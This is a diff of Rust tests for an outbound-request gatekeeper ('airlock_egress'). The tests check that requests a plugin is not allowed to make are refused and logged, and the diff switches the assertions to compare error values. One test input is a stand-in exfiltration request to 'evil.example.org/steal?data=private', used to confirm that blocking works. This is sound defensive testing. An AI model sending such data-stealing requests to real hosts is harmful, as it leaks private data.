@@ -18,7 +18,6 @@ async fn a_missing_rule_is_logged_where_it_would_help_and_not_reported_to_the_gu
         Bounds::PLUGIN,
         LONG,
     );
-    let mut told = Vec::new();
     for request in [
         get("https://evil.example.org/steal?data=private"),
         post(&server.url("x.example.com", "/a*b"), ""),
@@ -26,9 +25,9 @@ async fn a_missing_rule_is_logged_where_it_would_help_and_not_reported_to_the_gu
         get(&server.url("x.example.com", "/b")),
         get(&server.url("x.example.com", "/a/")),
     ] {
-        told.push(session.send(request).await.expect_err("it is refused").to_string());
+        let error = session.send(request).await.expect_err("it is refused");
+        assert_eq!(error, EgressError::denied());
     }
-    assert_eq!(told, ["the request is not permitted"; 5]);
     let port = server.address.port().to_string();
     insta::assert_snapshot!(log.text().replace(&port, "PORT"), @r#"
      WARN airlock_egress::exchange: outbound request refused caller=plugin host=evil.example.org reason=the manifest does not request this request=https://evil.example.org GET /steal
@@ -99,8 +98,8 @@ async fn an_unknown_credential_is_logged_with_the_granted_ones_and_not_reported_
     for name in ["tokn", "hush-hush\n", &"x".repeat(1000)] {
         let request =
             EgressRequest { credentials: vec![name.to_owned()], ..get("https://x.example.com/") };
-        let refused = session.send(request).await.expect_err("it is refused").to_string();
-        assert_eq!(refused, "the request is not permitted");
+        let error = session.send(request).await.expect_err("it is refused");
+        assert_eq!(error, EgressError::denied());
     }
     let log = log.text();
     let lines: Vec<_> = log.lines().collect();
